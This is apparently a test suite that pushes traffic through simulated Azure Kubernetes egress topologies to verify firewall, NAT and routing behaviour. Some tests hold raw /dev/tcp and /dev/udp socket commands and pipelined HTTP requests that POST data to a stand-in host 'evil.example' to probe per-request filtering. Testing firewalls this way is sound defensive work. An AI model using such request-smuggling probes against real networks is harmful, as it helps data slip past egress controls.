"""Real packets through all four topologies at once: what a pod sees, bytes and exit codes."""

import re

import pytest

from tests.lab.dataplane import topologies
from tests.lab.dataplane.topologies import DOCKER_RULE, HTTP, HTTPS, IFCONFIG_RULE, TAG_RULE, collection

pytestmark = pytest.mark.packets

LB = topologies.load_balancer_topology()
MANAGED = topologies.managed_nat_topology()
USER = topologies.user_nat_topology()
UDR = topologies.udr_topology()
API_SERVER = "https://aks-udr-abcd1234.hcp.westeurope.azmk8s.io/"
DENIED = "Action: Deny. Reason: No rule matched. Proceeding with default action."


@pytest.fixture(scope="module")
def world(shared_plane):
    assert shared_plane.apply(LB, MANAGED, USER, UDR) == ()
    return shared_plane


def curl(arguments, seconds=5):
    return f"curl -sS --max-time {seconds} {arguments}"


def seen(result):
    return (result.exit_code, result.output.strip())


@pytest.mark.parametrize(
    ("resources", "addresses"), [(LB, {"20.100.0.5"}), (MANAGED, {"20.100.1.5", "20.100.1.80"}), (USER, {"20.100.2.5"}), (UDR, {"20.100.3.163"})]
)
def test_the_address_that_a_pod_leaves_from(world, resources, addresses):
    assert {seen(world.run(resources, curl("http://ifconfig.me"))) for _ in range(2)} == {(0, address) for address in addresses}
    assert {seen(world.run(resources, curl("http://ifconfig.me"), network="node")) for _ in range(2)} == {(0, address) for address in addresses}


def test_https_is_trusted_and_registries_answer(world):
    answers = world.run_all(LB, [curl(f"-w '%{{http_code}}' -o /dev/null https://{host}/v2/") for host in ("mcr.microsoft.com", "registry-1.docker.io")])
    assert [seen(answer) for answer in answers] == [(0, "200"), (0, "401")]
    assert seen(world.run(LB, curl("https://ifconfig.me"))) == (0, "20.100.0.5")
    assert world.run(LB, curl("--cacert /dev/null https://example.com")).exit_code in (60, 77)


def test_the_firewall_denies_http_with_its_exact_bytes(world):
    result = world.run(UDR, curl("-i http://example.com"))
    date = r"Date: \w{3}, \d\d \w{3} \d{4} \d\d:\d\d:\d\d GMT"
    expected = rf"HTTP/1\.1 470 status code 470\r\n{date}\r\nContent-Length: 70\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{re.escape(DENIED)}"
    assert result.exit_code == 0
    assert re.fullmatch(expected, result.output)


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        (curl("https://example.com"), (35, "curl: (35) Recv failure: Connection reset by peer")),
        (curl("https://ifconfig.me"), (35, "curl: (35) Recv failure: Connection reset by peer")),
        (curl("-k https://3.216.34.172"), (35, "curl: (35) Recv failure: Connection reset by peer")),
        (curl("-w '%{http_code}' -o /dev/null https://registry-1.docker.io/v2/"), (0, "401")),
        (curl("-w '%{http_code}' -o /dev/null https://mcr.microsoft.com/v2/"), (0, "200")),
        (curl("-w '%{http_code}' -o /dev/null https://westeurope.data.mcr.microsoft.com/"), (0, "200")),
        (curl("-w '%{http_code}' -o /dev/null http://security.ubuntu.com/"), (0, "200")),
        (curl("http://mcr.microsoft.com/"), (0, DENIED)),
        (curl("http://20.50.1.1:9000"), (0, "20.100.3.163")),
        (f"printf '\\r\\n' | {curl('telnet://20.50.1.1:9000')}", (0, "20.100.3.163")),
        ("bash -c 'exec 3<>/dev/udp/20.50.1.1/1194; echo >&3; timeout 1 head -n1 <&3'", (0, "20.100.3.163")),
        (curl("tftp://20.50.1.1:1194/x"), (0, "20.100.3.163")),
        (curl("tftp://ntp.ubuntu.com:123/x"), (0, "20.100.3.163")),
        (curl("http://does-not-exist.invalid"), (6, "curl: (6) Could not resolve host: does-not-exist.invalid")),
        (curl(API_SERVER), (0, '{"kind":"Status","apiVersion":"v1","status":"Failure","code":401}')),
    ],
)
def test_what_a_pod_behind_the_firewall_sees(world, command, expected):
    assert seen(world.run(UDR, command)) == expected


def test_silence_for_the_rest(world):
    silent = ["http://20.60.1.1:9000", "http://ifconfig.me:8081", "tftp://20.50.1.1:1195/x", "tftp://91.189.94.5:123/x", "http://10.42.2.4:8443"]
    assert [result.exit_code for result in world.run_all(UDR, [curl(url, 1) for url in silent])] == [28] * len(silent)


def test_the_handshake_alone_says_nothing(world):
    command = "bash -c 'exec 3<>/dev/tcp/93.1.2.3/443 && echo connected'"
    assert seen(world.run(UDR, command)) == (0, "connected")


def test_a_denied_flow_is_in_the_log(world):
    world.run(UDR, curl("https://denied.example"))
    world.run(UDR, curl("http://20.61.1.1:9000", 1))
    lines = [line.split(" ", 1)[1] for line in world.log(UDR)]
    assert any(re.fullmatch(rf"HTTPS request from 10\.42\.1\.4:\d+ to denied\.example:443\. {re.escape(DENIED)}", line) for line in lines)
    assert any(re.fullmatch(rf"TCP request from 10\.42\.1\.4:\d+ to 20\.61\.1\.1:9000\. {re.escape(DENIED)}", line) for line in lines)


def test_every_request_of_a_connection_is_judged(world):
    command = curl(
        "-w '%{http_code} %{num_connects}\\n' -o /dev/null -o /dev/null -o /dev/null http://ifconfig.me -H 'Host: ifconfig.me' http://ifconfig.me/denied"
    )
    assert seen(world.run(UDR, command)) == (0, "200 1\n200 0")
    requests = [
        "GET / HTTP/1.1\\r\\nHost: ifconfig.me\\r\\n\\r\\n",
        "POST / HTTP/1.1\\r\\nHost: evil.example\\r\\nContent-Length: 3\\r\\n\\r\\nabc",
        "POST / HTTP/1.1\\r\\nHost: evil.example\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n3\\r\\nabc\\r\\n0\\r\\n\\r\\n",
        "GET / HTTP/1.1\\r\\nHost: ifconfig.me\\r\\nConnection: close\\r\\n\\r\\n",
    ]
    raw = f"printf '{''.join(requests)}'"
    result = world.run(UDR, f'bash -c "exec 3<>/dev/tcp/34.160.111.145/80; {raw} >&3; timeout 2 cat <&3"')
    assert re.findall(r"HTTP/1\.1 (\d+)", result.output) == ["200", "470", "470", "200"]


@pytest.mark.parametrize(
    ("request_line", "statuses"),
    [
        ("GET / HTTP/1.0\\r\\n\\r\\n", ["470"]),
        ("GET / HTTP/1.1\\r\\n\\r\\n", ["470"]),
        ("GET / HTTP/1.1\\r\\nHost: ifconfig.me:81\\r\\n\\r\\n", ["470"]),
        ("HEAD / HTTP/1.1\\r\\nHost: x.example\\r\\n\\r\\n", ["470"]),
        ("SSH-2.0-OpenSSH\\r\\n\\r\\n", []),
    ],
)
def test_odd_requests(world, request_line, statuses):
    result = world.run(UDR, f"bash -c \"exec 3<>/dev/tcp/34.160.111.145/80; printf '{request_line}' >&3; timeout 0.5 cat <&3\"")
    assert re.findall(r"HTTP/1\.1 (\d+)", result.output) == statuses


def test_bodies_pass(world):
    command = "head -c 3000000 /dev/zero | curl -sS --max-time 4 -o /dev/null -w '%{http_code} %{size_upload}' --data-binary @- http://ifconfig.me"
    assert seen(world.run(UDR, command)) == (0, "200 3000000")
    assert seen(world.run(UDR, command.replace("ifconfig.me", "denied.example"))) == (0, "470 0")
    assert seen(world.run(UDR, command.replace("http://ifconfig.me", "-H Expect: http://denied.example"))) == (0, "470 3000000")


def test_the_api_server_admits_its_ranges_only(world):
    assert world.run(LB, curl(API_SERVER, 1)).exit_code == 28
    assert world.run(LB, curl("https://aks-lb-abcd1234.hcp.westeurope.azmk8s.io/")).exit_code == 0


def test_overlapping_networks_are_apart(world):
    assert world.run(LB, "cat /proc/net/fib_trie", network="node").output.count("10.224.0.4") > 0
    assert world.run(MANAGED, "cat /proc/net/fib_trie", network="node").output.count("10.224.0.4") > 0
    assert seen(world.run(LB, curl("http://ifconfig.me"))) == (0, "20.100.0.5")
    assert world.run(MANAGED, curl("http://ifconfig.me")).output.strip() in ("20.100.1.5", "20.100.1.80")


def test_nothing_of_the_host_is_in_a_pod(world, monkeypatch):
    files = "cat /etc/resolv.conf /etc/nsswitch.conf /etc/hosts; ls -A /run /root /tmp; env; cat /proc/net/unix | wc -l; ls /proc | grep -c '^[0-9]'; ls /"
    output = world.run(UDR, files).output
    assert output.startswith("nameserver 10.42.2.4\noptions ")
    assert "hosts: files dns\n" in output
    assert "/root:\n\n/run:\n\n/tmp:\n" in output
    assert "proxy" not in output.lower()
    assert not {"home", "work", "opt", "mnt", "boot"} & set(output.splitlines())
    assert set(re.findall(r"^([A-Z_]+)=", output, re.MULTILINE)) == {"PATH", "HOME", "LANG", "CURL_CA_BUNDLE", "SSL_CERT_FILE", "PWD"}
    assert world.run(UDR, "touch /usr/bin/x || touch /etc/x || echo > /proc/sys/kernel/hostname").exit_code != 0


def test_a_command_can_fail_run_long_and_say_much(world):
    assert seen(world.run(LB, "echo out; echo err >&2; exit 7")) == (7, "out\nerr")
    slow = world.run(LB, "echo begun; (setsid sleep 60 &) ; sleep 60", timeout=0.4)
    assert (slow.exit_code, slow.output, slow.timed_out) == (124, "begun\n", True)
    assert len(world.run(LB, "head -c 2000000 /dev/zero | tr '\\0' x").output) == 512 * 1024


def test_twenty_probes_at_once(world):
    results = world.run_all(UDR, [curl("http://ifconfig.me", 5) for _ in range(20)])
    assert {seen(result) for result in results} == {(0, "20.100.3.163")}


def test_rules_change_in_place(plane):
    blocked = topologies.udr_topology(application=[TAG_RULE])
    allowed = topologies.udr_topology(application=[TAG_RULE, IFCONFIG_RULE])
    plane.apply(blocked)
    assert seen(plane.run(blocked, curl("http://ifconfig.me"))) == (0, DENIED)
    before = plane.run(blocked, "ls -l /proc/self/ns/net").output.split()[-1]
    plane.apply(allowed)
    assert seen(plane.run(blocked, curl("http://ifconfig.me"))) == (0, "20.100.3.163")
    assert plane.run(blocked, "ls -l /proc/self/ns/net").output.split()[-1] == before
    plane.apply(blocked)
    assert seen(plane.run(blocked, curl("http://ifconfig.me"))) == (0, DENIED)


def test_routes_and_gateways_change_in_place(plane):
    resources = topologies.user_nat_topology()
    plane.apply(resources)
    assert seen(plane.run(resources, curl("http://ifconfig.me"))) == (0, "20.100.2.5")
    topologies.find(resources, "publicIPAddresses")["properties"]["ipAddress"] = "20.100.2.6"
    plane.apply(resources)
    assert seen(plane.run(resources, curl("http://ifconfig.me"))) == (0, "20.100.2.6")
    routes = [{"name": "r", "properties": {"addressPrefix": "0.0.0.0/0", "nextHopType": "VirtualAppliance", "nextHopIpAddress": "172.16.9.9"}}]
    table = topologies.resource(topologies.group("g"), "Microsoft.Network/routeTables", "t", {"routes": routes})
    subnet = topologies.find(resources, "virtualNetworks")["properties"]["subnets"][0]["properties"]
    subnet["routeTable"] = topologies.reference(table)
    plane.apply(resources, [table])
    assert plane.run(resources, curl("http://ifconfig.me", 1)).exit_code == 28
    del subnet["routeTable"], subnet["natGateway"]
    plane.apply(resources)
    assert plane.run(resources, curl("http://ifconfig.me")).output.strip() == "203.0.113.1"
    subnet["defaultOutboundAccess"] = False
    plane.apply(resources)
    assert plane.run(resources, curl("http://ifconfig.me", 1)).exit_code == 28


def test_a_network_rule_for_the_web_skips_the_proxy_and_addresses_alternate(plane):
    web = {"name": "web", "ipProtocols": ["TCP"], "destinationAddresses": ["AzureCloud", "3.216.34.0/24"], "destinationPorts": ["80", "443"]}
    echo = {"name": "echo", "protocols": [HTTP, HTTPS], "targetFqdns": ["ifconfig.me"]}
    addresses = {"20.100.3.163", "20.100.3.164"}
    resources = topologies.udr_topology(application=[echo, DOCKER_RULE], network_rules=[web], more_addresses=["20.100.3.164"])
    plane.apply(resources)
    assert plane.run(resources, curl("-k -o /dev/null -w '%{http_code}' https://3.216.34.172")).output == "200"
    results = plane.run_all(resources, [curl("http://ifconfig.me") for _ in range(24)])
    assert {result.output.strip() for result in results} == addresses


def test_a_nat_gateway_on_the_firewalls_subnet_replaces_its_addresses(plane):
    ip = topologies.public_ip(topologies.group("rg-aks-udr"), "nat", "20.100.7.7")
    gateway = topologies.resource(topologies.group("rg-aks-udr"), "Microsoft.Network/natGateways", "g", {"publicIpAddresses": [topologies.reference(ip)]})
    resources = topologies.udr_topology(firewall_subnet={"natGateway": topologies.reference(gateway)})
    plane.apply(resources, [ip, gateway])
    assert seen(plane.run(resources, curl("http://ifconfig.me"))) == (0, "20.100.7.7")


def test_without_the_dns_proxy_nothing_answers_at_the_firewall(plane):
    resources = topologies.udr_topology(dns_proxy=False, network_rules=topologies.NETWORK_RULES[:2])
    plane.apply(resources)
    assert plane.run(resources, curl("http://ifconfig.me")).exit_code == 6
    azure = topologies.udr_topology(dns_proxy=False, use_proxy=False, network_rules=topologies.NETWORK_RULES[:2])
    plane.apply(azure)
    assert seen(plane.run(azure, curl("http://ifconfig.me"))) == (0, "20.100.3.163")


def test_deny_collections_and_security_groups(plane):
    deny = topologies.udr_topology()
    policy = topologies.find(deny, "firewallPolicies")
    deny.append(topologies.rule_group(policy, "deny", 250, [collection("no", 100, [IFCONFIG_RULE], action="Deny")]))
    rule = {"priority": 100, "direction": "Outbound", "access": "Deny", "protocol": "Tcp", "sourceAddressPrefix": "*", "destinationAddressPrefix": "*"}
    rules = [{"name": "no443", "properties": {**rule, "destinationPortRange": "443"}}]
    nsg = topologies.resource(topologies.group("n"), "Microsoft.Network/networkSecurityGroups", "nsg", {"securityRules": rules})
    guarded = topologies.user_nat_topology()
    topologies.find(guarded, "virtualNetworks")["properties"]["subnets"][0]["properties"]["networkSecurityGroup"] = topologies.reference(nsg)
    plane.apply(deny, guarded, [nsg])
    assert seen(plane.run(deny, curl("http://ifconfig.me"))) == (0, "Action: Deny. Rule Collection Group: deny. Rule Collection: no. Rule: ifconfig.")
    assert seen(plane.run(guarded, curl("http://ifconfig.me"))) == (0, "20.100.2.5")
    assert plane.run(guarded, curl("https://ifconfig.me", 1)).exit_code == 28


def test_environments_come_and_go_while_others_stay(plane):
    plane.apply(USER, UDR)
    namespace = plane.run(USER, "ls -l /proc/self/ns/net").output.split()[-1]
    plane.apply(USER)
    plane.apply(USER, UDR, LB)
    plane.apply(LB, USER, UDR)
    assert plane.run(USER, "ls -l /proc/self/ns/net").output.split()[-1] == namespace
    assert [seen(plane.run(r, curl("http://ifconfig.me"))) for r in (LB, USER, UDR)] == [(0, "20.100.0.5"), (0, "20.100.2.5"), (0, "20.100.3.163")]


def test_bytes_that_are_nothing_do_no_harm(plane):
    everything = {"name": "all", "protocols": [HTTP, HTTPS], "targetFqdns": ["*"]}
    resources = topologies.udr_topology(application=[everything])
    plane.apply(resources)
    hosts = ["a" * 70 + ".example", "x..y", "caf\\351.example", "93.1.2.3", "does-not-exist.invalid", "ok.example"]
    commands = [
        f"printf 'GET / HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n' | curl -sS --max-time 5 telnet://93.1.2.3:80 | head -1" for host in hosts
    ]
    assert [result.output.split(" ")[1:2] for result in plane.run_all(resources, commands)] == [["502"], ["502"], ["502"], ["200"], ["502"], ["200"]]
    assert plane.run(resources, curl("-k https://93.1.2.3")).exit_code == 35
    assert "Traceback" not in plane.plane._log.read_text()
